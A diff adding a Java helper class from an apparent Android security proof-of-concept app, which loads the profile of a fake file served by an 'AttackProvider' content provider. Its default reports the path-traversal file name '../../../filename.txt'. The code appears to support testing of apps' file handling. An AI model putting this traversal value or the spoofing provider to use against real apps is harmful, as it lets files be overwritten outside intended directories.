@@ -0,0 +1,194 @@
+package io.hextree.poc.utils;
+
+import android.content.Context;
+import android.os.SharedMemory;
+import android.provider.OpenableColumns;
+import android.system.ErrnoException;
+import android.system.OsConstants;
+import android.util.Log;
+
+import java.io.File;
+import java.io.FileInputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.InputStreamReader;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.util.Properties;
+
+/**
+ * The runtime profile of the {@link AttackProvider}, describing the file it pretends to serve.
+ * <p>
+ * The profile is loaded from {@code attackprovider.properties}. A copy in the app's internal
+ * storage ({@code getFilesDir()}) takes precedence over the one shipped in the apk's assets folder,
+ * so the payload can be changed without rebuilding the app. Supported keys, each falling back to
+ * {@link #DEFAULT} if missing:
+ * </p>
+ * <ul>
+ *     <li>{@code display_name} - the reported {@link OpenableColumns#DISPLAY_NAME}</li>
+ *     <li>{@code size} - the reported {@link OpenableColumns#SIZE}, defaults to the content length
+ *     if {@code content} is set</li>
+ *     <li>{@code content} - the file content returned by {@code openFile()}</li>
+ * </ul>
+ * <p>
+ * A profile is immutable and parsed only once, the response values are precomputed so the
+ * provider can serve them without any further work. Content too large to be returned inline by
+ * {@link AttackProvider#call} is also copied into a read-only {@link SharedMemory} region when the
+ * profile is created. Call {@link #close()} to release it once the profile is no longer served.
+ * </p>
+ */
+public class ProviderProfile {
+
+    /**
+     * The file name of the profile, both in the assets folder and in internal storage.
+     */
+    public static final String FILE_NAME = "attackprovider.properties";
+
+    /**
+     * The columns returned by {@link AttackProvider#query}.
+     */
+    public static final String[] COLUMNS = new String[]{
+            OpenableColumns.DISPLAY_NAME, OpenableColumns.SIZE
+    };
+
+    /**
+     * The profile used if no profile file can be loaded.
+     */
+    public static final ProviderProfile DEFAULT =
+            new ProviderProfile("../../../filename.txt", 12345, "<h1>File Content</h1>".getBytes(StandardCharsets.UTF_8));
+
+    private final String displayName;
+    private final long size;
+    private final byte[] content;
+    private final Object[] row;
+    private final SharedMemory sharedMemory;
+
+    /**
+     * Creates a new profile.
+     *
+     * @param displayName the reported display name
+     * @param size        the reported size
+     * @param content     the file content
+     */
+    public ProviderProfile(String displayName, long size, byte[] content) {
+        this.displayName = displayName;
+        this.size = size;
+        this.content = content;
+        this.row = new Object[]{displayName, size};
+        this.sharedMemory = content.length > AttackProvider.MAX_INLINE_CONTENT
+                ? createSharedMemory(content)
+                : null;
+    }
+
+    private static SharedMemory createSharedMemory(byte[] content) {
+        try {
+            SharedMemory memory = SharedMemory.create(FILE_NAME, content.length);
+            ByteBuffer buffer = memory.mapReadWrite();
+            buffer.put(content);
+            SharedMemory.unmap(buffer);
+            memory.setProtect(OsConstants.PROT_READ);
+            return memory;
+        } catch (ErrnoException e) {
+            // Without shared memory the content is only served by openFile()
+            Log.e("ProviderProfile", "Could not create shared memory", e);
+            return null;
+        }
+    }
+
+    /**
+     * Loads the profile from internal storage if it exists there, otherwise from the assets folder.
+     * <p>
+     * If neither can be read or parsed, an error is logged and {@link #DEFAULT} is returned.
+     * </p>
+     *
+     * @param context the context used to access the internal storage and assets
+     * @return the loaded profile
+     */
+    public static ProviderProfile load(Context context) {
+        File internalFile = new File(context.getFilesDir(), FILE_NAME);
+        try (InputStream inputStream = internalFile.exists()
+                ? new FileInputStream(internalFile)
+                : context.getAssets().open(FILE_NAME)) {
+            return parse(inputStream);
+        } catch (IOException | IllegalArgumentException e) {
+            Log.e("ProviderProfile", "Could not load " + FILE_NAME + ", using default profile", e);
+            return DEFAULT;
+        }
+    }
+
+    /**
+     * Parses a profile in the {@link Properties} format.
+     *
+     * @param inputStream the stream to parse, it is not closed by this method
+     * @return the parsed profile
+     * @throws IOException              if reading the stream fails
+     * @throws IllegalArgumentException if the stream is malformed or {@code size} is not a number
+     */
+    public static ProviderProfile parse(InputStream inputStream) throws IOException {
+        Properties properties = new Properties();
+        properties.load(new InputStreamReader(inputStream, StandardCharsets.UTF_8));
+
+        String displayName = properties.getProperty("display_name", DEFAULT.displayName);
+        String contentValue = properties.getProperty("content");
+        byte[] content = contentValue != null ? contentValue.getBytes(StandardCharsets.UTF_8) : DEFAULT.content;
+        String sizeValue = properties.getProperty("size");
+        long size;
+        if (sizeValue != null) {
+            size = Long.parseLong(sizeValue.trim());
+        } else {
+            size = contentValue != null ? content.length : DEFAULT.size;
+        }
+        return new ProviderProfile(displayName, size, content);
+    }
+
+    public String getDisplayName() {
+        return displayName;
+    }
+
+    public long getSize() {
+        return size;
+    }
+
+    /**
+     * Returns the file content. The array is shared and must not be modified.
+     *
+     * @return the file content
+     */
+    public byte[] getContent() {
+        return content;
+    }
+
+    /**
+     * Returns the precomputed cursor row matching {@link #COLUMNS}.
+     *
+     * @return the cursor row
+     */
+    public Object[] getRow() {
+        return row;
+    }
+
+    /**
+     * Returns the file content in a read-only {@link SharedMemory} region.
+     * <p>
+     * It is used to hand payloads that are too large for a binder transaction to other processes
+     * without copying them through a pipe. The region is owned by the profile, receivers in the same
+     * process must only unmap it and never close it. Receivers in other processes get their own copy.
+     * </p>
+     *
+     * @return the shared memory containing the content, or {@code null} if the content is small
+     *         enough to be returned inline or the region could not be created
+     */
+    public SharedMemory getSharedMemory() {
+        return sharedMemory;
+    }
+
+    /**
+     * Releases the shared memory region of this profile, if any. The provider delays this after
+     * replacing a profile, see {@link AttackProvider#PROFILE_CLOSE_DELAY_MS}.
+     */
+    public void close() {
+        if (sharedMemory != null) {
+            sharedMemory.close();
+        }
+    }
+}